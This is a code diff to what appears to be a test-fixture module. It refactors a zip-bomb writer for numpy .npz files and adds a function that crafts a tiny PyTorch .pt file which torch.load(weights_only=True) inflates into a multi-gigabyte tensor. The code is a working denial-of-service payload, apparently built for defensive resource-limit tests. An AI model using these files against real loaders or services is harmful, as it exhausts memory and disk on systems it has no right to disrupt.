@@ -17,39 +17,82 @@ def _npy_header(shape: tuple[int, ...], descr: str = "<f4") -> bytes:
     return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")
 
 
-def zip_bomb_npz(path: Path, inflated_bytes: int = 2 * 1024**3, name: str = "x_train") -> int:
-    """Write an `.npz` whose one member is a float32 `.npy` of zeros inflating to about
-    `inflated_bytes` (a multiple of 8 MiB); returns the file size. The deflate stream repeats
-    one fully flushed block, so it is built in about a second per 2 GiB (the CRC)."""
-    header = _npy_header((inflated_bytes // 4 // 64, 64))
-    chunks = inflated_bytes // CHUNK
+def _deflate_zeros(prefix: bytes, zeros: int) -> tuple[list[bytes], int, int, int]:
+    """A raw deflate stream of `prefix` + `zeros` zero bytes as (pieces, repeat count of
+    pieces[1], crc, compressed size): one fully flushed 8 MiB block of zeros is repeated, so
+    nothing of the inflated size is ever compressed or held."""
     co = zlib.compressobj(9, zlib.DEFLATED, -15)
-    first = co.compress(header) + co.flush(zlib.Z_FULL_FLUSH)
     zero = bytes(CHUNK)
-    block = co.compress(zero) + co.flush(zlib.Z_FULL_FLUSH)
-    tail = co.flush()
-    crc = zlib.crc32(header)
+    chunks, rest = divmod(zeros, CHUNK)
+    first = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
+    block = co.compress(zero) + co.flush(zlib.Z_FULL_FLUSH) if chunks else b""
+    last = co.compress(bytes(rest)) + co.flush()
+    crc = zlib.crc32(prefix)
     for _ in range(chunks):
         crc = zlib.crc32(zero, crc)
-    usize = len(header) + chunks * CHUNK
-    csize = len(first) + chunks * len(block) + len(tail)
-    fname = f"{name}.npy".encode()
-    local_extra = struct.pack("<HHQQ", 1, 16, usize, csize)
-    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 45, 0, 8, 0, 0x21, crc, 0xFFFFFFFF,
-                        0xFFFFFFFF, len(fname), len(local_extra)) + fname + local_extra
+    crc = zlib.crc32(bytes(rest), crc)
+    return [first, block, last], chunks, crc, len(first) + chunks * len(block) + len(last)
+
+
+def write_zip(path: Path, members: list[tuple[str, bytes, int]]) -> int:
+    """A zip64-sized zip of deflated members (name, prefix bytes, then that many zero bytes);
+    returns the file size."""
+    central = b""
     with open(path, "wb") as f:
-        f.write(local + first)
-        for _ in range(chunks):
-            f.write(block)
-        f.write(tail)
+        for name, prefix, zeros in members:
+            (first, block, last), repeat, crc, csize = _deflate_zeros(prefix, zeros)
+            usize, offset, fname = len(prefix) + zeros, f.tell(), name.encode()
+            extra = struct.pack("<HHQQ", 1, 16, usize, csize)
+            f.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 45, 0, 8, 0, 0x21, crc,
+                                0xFFFFFFFF, 0xFFFFFFFF, len(fname), len(extra)) + fname + extra)
+            f.write(first)
+            f.writelines(block for _ in range(repeat))
+            f.write(last)
+            cd_extra = struct.pack("<HHQQQ", 1, 24, usize, csize, offset)
+            central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 45, 45, 0, 8, 0, 0x21, crc,
+                                   0xFFFFFFFF, 0xFFFFFFFF, len(fname), len(cd_extra), 0, 0, 0, 0,
+                                   0xFFFFFFFF) + fname + cd_extra
         cd_offset = f.tell()
-        cd_extra = struct.pack("<HHQQQ", 1, 24, usize, csize, 0)
-        central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 45, 45, 0, 8, 0, 0x21, crc,
-                              0xFFFFFFFF, 0xFFFFFFFF, len(fname), len(cd_extra), 0, 0, 0, 0,
-                              0xFFFFFFFF) + fname + cd_extra
         f.write(central)
-        f.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central), cd_offset, 0))
+        f.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
+                            len(central), cd_offset, 0))
         return f.tell()
+
+
+def zip_bomb_npz(path: Path, inflated_bytes: int = 2 * 1024**3, name: str = "x_train") -> int:
+    """An `.npz` whose one member is a float32 `.npy` of zeros inflating to about
+    `inflated_bytes` (a few MB for GiBs; numpy would load it); returns the file size. Built in
+    about a second per 2 GiB (the CRC)."""
+    header = _npy_header((inflated_bytes // 4 // 64, 64))
+    return write_zip(path, [(f"{name}.npy", header, inflated_bytes // 4 // 64 * 64 * 4)])
+
+
+def zip_bomb_pt(path: Path, inflated_bytes: int = 2 * 1024**3, key: str = "fc1.weight") -> int:
+    """A `.pt` state dict (torch.save's zip format, members deflated) holding one float32
+    tensor of zeros of about `inflated_bytes`: torch.load(weights_only=True) accepts it and
+    allocates the whole tensor. Returns the file size."""
+    import io
+    import zipfile
+
+    import torch
+
+    template = 70001  # a BININT no other field of the pickle holds
+    numel = inflated_bytes // 4
+    buf = io.BytesIO()
+    torch.save({key: torch.zeros(template)}, buf)
+    members = []
+    with zipfile.ZipFile(buf) as zf:
+        for info in zf.infolist():
+            data = zf.read(info)
+            if info.filename.endswith("data.pkl"):
+                old, new = struct.pack("<i", template), struct.pack("<i", numel)
+                assert data.count(old) == 2, data
+                members.append((info.filename, data.replace(old, new), 0))
+            elif info.filename.endswith("data/0"):
+                members.append((info.filename, b"", numel * 4))
+            else:
+                members.append((info.filename, data, 0))
+    return write_zip(path, members)
 
 
 def huge_header_safetensors(path: Path, header_bytes: int = 92 * 1024 * 1024) -> int:
